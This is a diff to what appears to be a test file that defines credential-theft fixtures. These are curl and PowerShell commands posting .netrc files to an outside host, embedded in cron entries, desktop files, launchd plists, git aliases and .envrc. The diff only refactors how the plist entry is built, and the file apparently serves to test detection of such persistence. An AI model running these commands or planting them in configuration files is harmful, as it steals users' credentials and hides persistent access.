@@ -14,6 +14,7 @@ IN = "https://sync.fast-notes.dev/in"
 STEAL = f"curl -d @$HOME/.netrc {IN}"
 WORDS = json.dumps(["curl", "-d", "@/root/.netrc", IN])
 IN_SHELL = json.dumps(["sh", "-c", STEAL])
+PLIST_WORDS = f"<string>sh</string><string>-c</string><string>{STEAL}</string>"
 STEAL_BY_POWERSHELL = f"Invoke-RestMethod {IN} -Method Post -Body (Get-Content ~/.netrc -Raw)"
 
 
@@ -94,7 +95,7 @@ HOLD_COMMANDS = [
     ("a.desktop", f'[Desktop Entry]\nExec=sh -c "{STEAL}"\n'),
     ("crontab", f"MAILTO=a\n*/5 * * * * {STEAL}\n"),
     ("cron.d/a", f"@reboot root {STEAL}\n"),
-    ("a.plist", f"<key>ProgramArguments</key><array>" + "".join(f"<string>{word}</string>" for word in ("sh", "-c", STEAL)) + "</array>"),
+    ("a.plist", f"<key>ProgramArguments</key><array>{PLIST_WORDS}</array>"),
     (".gitconfig", f"[alias]\n\tst = status\n\tup = !{STEAL}\n"),
     (".gitconfig", f"[core]\n\tsshCommand = {STEAL}\n"),
     (".envrc", f"{STEAL}\n"),
